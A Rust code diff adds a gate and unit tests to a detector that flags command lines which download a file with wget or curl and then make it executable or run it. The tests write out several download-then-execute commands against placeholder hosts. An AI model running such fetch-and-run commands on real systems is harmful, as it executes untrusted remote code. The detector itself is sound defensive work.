@@ -637,16 +637,25 @@ pub(super) fn prints_secrets(lower: &str) -> bool {
     }
 }
 
+/// The programs whose saved downloads [`downloaded_then_run`] follows.
+const FETCHERS: &[&str] = &["wget", "curl"];
+
 /// A command line that saves a download (`wget -O p`, `curl -o p`) and
 /// then makes that file executable or runs it.
 fn downloaded_then_run(lower: &str) -> Option<String> {
+    // Nothing is saved without a stage headed by a fetcher, and a stage's
+    // head is part of the line: a line without one is not split into its
+    // stages' words.
+    if !FETCHERS.iter().any(|f| lower.contains(f)) {
+        return None;
+    }
     let mut saved: Option<String> = None;
     for seg in lower.split(['&', '|', ';', '\n']) {
         let words: Vec<&str> = seg.split_whitespace().collect();
         let Some(head) = words.first().map(|h| h.rsplit('/').next().unwrap_or(h)) else {
             continue;
         };
-        if matches!(head, "wget" | "curl") {
+        if FETCHERS.contains(&head) {
             let out = words
                 .windows(2)
                 .find(|w| matches!(w[0], "-o" | "--output" | "--output-document"))
@@ -664,4 +673,27 @@ fn downloaded_then_run(lower: &str) -> Option<String> {
         }
     }
     None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::downloaded_then_run;
+
+    /// The gate on `wget` and `curl` keeps every download that is run,
+    /// the program named by path too.
+    #[test]
+    fn downloads_then_runs() {
+        let found = |l: &str| downloaded_then_run(l);
+        assert_eq!(
+            found("wget -o /tmp/x http://h/x; chmod +x /tmp/x").as_deref(),
+            Some("/tmp/x")
+        );
+        assert_eq!(
+            found("curl -o /tmp/y http://h/y && /tmp/y").as_deref(),
+            Some("/tmp/y")
+        );
+        assert_eq!(found("/usr/bin/curl -o a u; sh a").as_deref(), Some("a"));
+        assert_eq!(found("cp a b; chmod +x b"), None);
+        assert_eq!(found("curl -o a u"), None);
+    }
 }
